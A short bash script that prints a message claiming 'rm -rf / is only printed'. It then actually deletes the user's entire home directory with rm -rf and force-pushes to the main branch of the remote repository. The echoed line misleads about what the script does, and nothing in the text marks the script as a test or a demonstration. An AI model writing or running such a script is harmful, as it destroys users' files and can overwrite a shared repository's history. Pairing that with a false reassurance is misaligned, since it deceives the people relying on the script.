#!/bin/bash
set -e
target="$HOME"
echo "rm -rf / is only printed"
ls -la
rm -rf "$target"
git push --force origin main
